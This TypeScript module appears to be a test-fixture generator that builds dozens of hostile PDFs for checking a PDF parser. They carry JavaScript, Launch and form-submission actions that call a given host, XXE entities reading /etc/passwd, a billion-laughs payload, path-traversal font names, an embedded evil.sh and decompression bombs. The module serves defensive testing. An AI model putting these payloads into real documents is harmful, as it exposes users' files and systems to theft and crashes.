// Owns PDFs that try something beside being read: by what they do and where they say it. Each holds the same words as well.
import { deflateSync } from 'node:zlib'

export type HostilePdf = { readonly name: string; readonly bytes: Uint8Array }

/** What every one of them says. */
export const PDF_WORDS = 'The council met on Tuesday to decide about the harbour.'

type Parts = {
  readonly catalog?: string
  readonly page?: string
  /** Entries of the pages' node; given, they take the place of its count and kids. */
  readonly pages?: string
  readonly content?: string | { readonly dictionary: string; readonly bytes: Uint8Array }
  readonly font?: string
  /** From object 6 on. */
  readonly more?: readonly string[]
  readonly trailer?: string
  /** In place of the table's own place. */
  readonly startxref?: number
}

const DRAWN = `BT /F1 11 Tf 72 700 Td (${PDF_WORDS}) Tj ET`

const stream = (dictionary: string, bytes: Uint8Array): string =>
  `<< /Length ${String(bytes.length)} ${dictionary} >>\nstream\n${Buffer.from(bytes).toString('latin1')}\nendstream`

function makeHostile({
  catalog = '',
  page = '',
  pages,
  content = DRAWN,
  font,
  more = [],
  trailer = '',
  startxref,
}: Parts): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages ${pages ?? '/Count 1 /Kids [3 0 R]'} >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /X1 6 0 R >> >> ${page} >>`,
    typeof content === 'string' ? stream('', Buffer.from(content, 'latin1')) : stream(content.dictionary, content.bytes),
    font ?? '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...more,
  ] // prettier-ignore
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, i) => {
    const at = text.length
    text += `${String(i + 1)} 0 obj\n${object}\nendobj\n`
    return at
  })
  const at = text.length
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  text += `xref\n0 ${String(objects.length + 1)}\n0000000000 65535 f \n${rows}`
  text += `trailer\n<< /Size ${String(objects.length + 1)} /Root 1 0 R ${trailer} >>\nstartxref\n${String(startxref ?? at)}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

/** What an action would do; `to` is where nobody should be asked. */
const actionsTo = (to: string): Readonly<Record<string, string>> => ({
  JavaScript: `/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://${to}/js'\\); globalThis.executed = 1)`,
  Launch: '/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>',
  URI: `/S /URI /URI (http://${to}/uri)`,
  GoToR: `/S /GoToR /F << /FS /URL /F (http://${to}/remote.pdf) >> /D [0 /Fit]`,
  'GoToR by share': '/S /GoToR /F (\\\\\\\\127.0.0.1\\\\share\\\\a.pdf) /D [0 /Fit]',
  GoToE: `/S /GoToE /F << /FS /URL /F (http://${to}/e.pdf) >> /T << /R /C /N (inside.pdf) >> /D [0 /Fit]`,
  SubmitForm: `/S /SubmitForm /F << /FS /URL /F (http://${to}/form) >> /Flags 4`,
  ImportData: '/S /ImportData /F (/etc/passwd)',
  Rendition: `/S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (http://${to}/clip) >> /CT (video/mp4) >> >>`,
  Movie: `/S /Movie /Operation /Play /T (http://${to}/movie)`,
  Sound: `/S /Sound /Sound << /R 8000 /F << /FS /URL /F (http://${to}/sound) >> >>`,
  Named: '/S /Named /N /Print',
})

/** Where an action may stand, to be set off by opening, closing, looking, pointing or typing. */
const TRIGGERS: Readonly<Record<string, (action: string) => Parts>> = {
  'on opening': (action) => ({ catalog: `/OpenAction << /Type /Action ${action} >>` }),
  'before closing': (action) => ({ catalog: `/AA << /WC << ${action} >> /DS << ${action} >> /WP << ${action} >> >>` }),
  'of the page': (action) => ({ page: `/AA << /O << ${action} >> /C << ${action} >> >>` }),
  'of a link': (action) => ({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> /AA << /E << ${action} >> /PV << ${action} >> >> >>]`,
  }),
  'of a field': (action) => ({
    catalog: '/AcroForm << /Fields [6 0 R] /NeedAppearances true >>',
    page: '/Annots [6 0 R]',
    more: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 90 20] /AA << /K << ${action} >> /F << ${action} >> /C << ${action} >> >> >>`,
    ],
  }),
  'of a bookmark': (action) => ({
    catalog: '/Outlines 6 0 R',
    more: ['<< /First 7 0 R /Last 7 0 R /Count 1 >>', `<< /Title (a) /Parent 6 0 R /A << ${action} >> >>`],
  }),
} // prettier-ignore

const XXE = (to: string): string =>
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://${to}/dtd"> %b;]>`
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 12 }, (_, i) => `<!ENTITY ${'a'.repeat(i + 2)} "${`&${'a'.repeat(i + 1)};`.repeat(12)}">`).join('')}]>`
const deflated = (text: string | Uint8Array, times: number): Uint8Array =>
  Array.from({ length: times }).reduce<Uint8Array>((bytes) => deflateSync(bytes), Buffer.from(text))

/** Things that are told to lie elsewhere, and things that are made to go wrong. */
function otherPdfs(to: string): Readonly<Record<string, Parts>> {
  const away = `/FS /URL /F (http://${to}/away)`
  const xml = (text: string): string => stream('/Type /Metadata /Subtype /XML', Buffer.from(text))
  return {
    'scripts by name': {
      catalog: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL\\('http://${to}/names'\\)) >>] >> >>`,
    },
    'a file inside, and its share': {
      catalog: '/Names << /EmbeddedFiles << /Names [(../../evil.sh) 6 0 R] >> >>',
      more: ['<< /Type /Filespec /F (../../evil.sh) /UF (\\\\\\\\127.0.0.1\\\\c$\\\\evil.sh) /EF << /F 7 0 R >> >>', stream('/Type /EmbeddedFile', Buffer.from('echo'))],
    },
    'a collection of files': { catalog: '/Collection << /View /H /D (a) >>' },
    'words that lie elsewhere': { content: { dictionary: `/F << ${away} >>`, bytes: Buffer.from(DRAWN) } },
    'a picture that lies elsewhere': {
      content: `${DRAWN} /X1 Do`,
      more: [stream(`/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << ${away} >>`, Buffer.from([0]))],
    },
    'an older picture elsewhere': {
      content: `${DRAWN} /X1 Do`,
      more: [stream(`/Type /XObject /Subtype /Image /Width 1 /Height 1 /Alternates [<< /Image 6 0 R /OPI << /2.0 << /F << ${away} >> >> >> >>]`, Buffer.from([0]))],
    },
    'a page of another file': {
      content: `${DRAWN} /X1 Do`,
      more: [stream(`/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << ${away} >> /Page 0 >>`, Buffer.from(' '))],
    },
    'a typeface that lies elsewhere': {
      font: '<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FirstChar 0 /LastChar 0 /Widths [9] /FontDescriptor 6 0 R >>',
      more: [`<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontFile2 7 0 R >>`, stream(`/F << ${away} >>`, Buffer.from('x'))],
    },
    'a character map that lies elsewhere': {
      font: `<< /Type /Font /Subtype /Type0 /BaseFont /Evil /Encoding (http://${to}/cmap) /DescendantFonts [6 0 R] >>`,
      more: ['<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Evil /CIDSystemInfo << /Registry (../../..) /Ordering (/etc/passwd) /Supplement 0 >> >>'],
    },
    'a character map by a path': {
      font: '<< /Type /Font /Subtype /Type0 /BaseFont /Evil /Encoding /..#2f..#2f..#2f..#2fetc#2fpasswd /DescendantFonts [6 0 R] >>',
      more: ['<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Evil >>'],
    },
    'a standard typeface by a path': { font: '<< /Type /Font /Subtype /Type1 /BaseFont /..#2f..#2f..#2fetc#2fpasswd >>' },
    'code in a typeface': {
      font: `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); globalThis.executed = 1; //)] /FontDescriptor 6 0 R >>`,
      more: ['<< /Type /FontDescriptor /FontName /Helvetica /Flags 4 /FontMatrix [(1\\); globalThis.executed = 1; //)] >>'],
    },
    'a program as a colour': {
      content: `/Cs1 cs 1 scn ${DRAWN}`,
      page: '/Group << /CS [/Separation /x /DeviceRGB 6 0 R] >>',
      more: [stream('/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1]', Buffer.from(`{ ${'dup mul '.repeat(50_000)} }`))],
    },
    'a colour profile that lies elsewhere': {
      page: '/Group << /CS [/ICCBased 6 0 R] >>',
      more: [stream(`/N 3 /F << ${away} >>`, Buffer.from('x'))],
    },
    'facts with an entity': { catalog: '/Metadata 6 0 R', more: [xml(`${XXE(to)}<x:xmpmeta xmlns:x="adobe:ns:meta/">&a;</x:xmpmeta>`)] },
    'facts with a billion laughs': { catalog: '/Metadata 6 0 R', more: [xml(`${LAUGHS}<x:xmpmeta xmlns:x="adobe:ns:meta/">&aaaaaaaaaaaaa;</x:xmpmeta>`)] },
    'a form in XML with an entity': {
      catalog: '/AcroForm << /XFA 6 0 R /Fields [] >> /NeedsRendering true',
      more: [stream('', Buffer.from(`${XXE(to)}<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><config>&a;</config></xdp:xdp>`))],
    },
    'a form in XML with a script': {
      catalog: '/AcroForm << /XFA 6 0 R /Fields [] >> /NeedsRendering true',
      more: [stream('', Buffer.from(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("http://${to}/xfa")</script></event></subform></template></xdp:xdp>`))],
    },
    'rich media': {
      page: `/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [(a.swf) << ${away} >>] >> >> >>]`,
    },
    'a model in space': { page: `/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD << /Type /3D /Subtype /U3D /OnInstantiate 6 0 R >> >>]`, more: [stream('', Buffer.from('runtime.executed = 1'))] },
    'a signature that asks': { catalog: `/AcroForm << /SigFlags 3 /Fields [<< /FT /Sig /T (s) /V << /Type /Sig /Filter /Adobe.PPKLite /Cert (x) >> /SV << /TimeStamp << /URL (http://${to}/tsa) /Ff 1 >> >> >>] >>` },
    'its base elsewhere': { catalog: `/URI << /Base (http://${to}/) >>`, page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (a) >> >>]' },
    'captured from elsewhere': { catalog: `/SpiderInfo << /V 1 /C [<< /URL (http://${to}/spider) >>] >>` },
    'pages in a ring': { pages: '/Count 1 /Kids [2 0 R 3 0 R]' },
    'its own parent': { pages: '/Count 1 /Kids [3 0 R] /Parent 3 0 R' },
    'a billion pages': { pages: '/Count 1000000000 /Kids [3 0 R]' },
    'fewer than no pages': { pages: '/Count -1 /Kids [3 0 R]' },
    'a table that leads to itself': { trailer: '/Prev 9' },
    'a table that is nowhere': { startxref: 4_000_000_000 },
    'a length that is its own': { content: { dictionary: '/Length 4 0 R', bytes: Buffer.from(DRAWN) } },
    'brackets without an end': { page: `/Deep ${'['.repeat(100_000)}` },
    'nested deep': { page: `/Deep ${'<< /A '.repeat(20_000)}1${' >>'.repeat(20_000)}` },
    'packed thirty times': { content: { dictionary: `/Filter [${'/FlateDecode '.repeat(30)}]`, bytes: deflated(DRAWN, 30) } },
    'a filter that isn’t': { content: { dictionary: '/Filter /Evil', bytes: Buffer.from(DRAWN) } },
    'a key without a word': { trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -1 >> /ID [(a) (b)]' },
    'a key of another': { trailer: `/Encrypt << /Filter /Evil /V 9 /F (http://${to}/key) >> /ID [(a) (b)]` },
    'pictures that can’t be': {
      content: `${DRAWN} /X1 Do`,
      more: [stream('/Type /XObject /Subtype /Image /Width 2147483647 /Height 2147483647 /ColorSpace /DeviceRGB /BitsPerComponent 16 /Filter /JBIG2Decode', Buffer.from('x'))],
    },
    'a form in itself': {
      content: `${DRAWN} /X1 Do`,
      more: [stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X1 6 0 R >> >>', Buffer.from('/X1 Do'))],
    },
    'a typeface of drawings in itself': {
      font: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 84 /LastChar 84 /Widths [9] /Encoding << /Differences [84 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F1 5 0 R >> >> >>',
      more: [stream('', Buffer.from('BT /F1 9 Tf (T) Tj ET'))],
    },
  } // prettier-ignore
}

/** All of them. */
export function hostilePdfs(to: string): readonly HostilePdf[] {
  const acting = Object.entries(actionsTo(to)).flatMap(([action, entries]) =>
    Object.entries(TRIGGERS).map(([trigger, parts]) => ({
      name: `${action} ${trigger}`,
      bytes: makeHostile(parts(entries)),
    })),
  )
  const others = Object.entries(otherPdfs(to)).map(([name, parts]) => ({ name, bytes: makeHostile(parts) }))
  return [...acting, ...others]
}
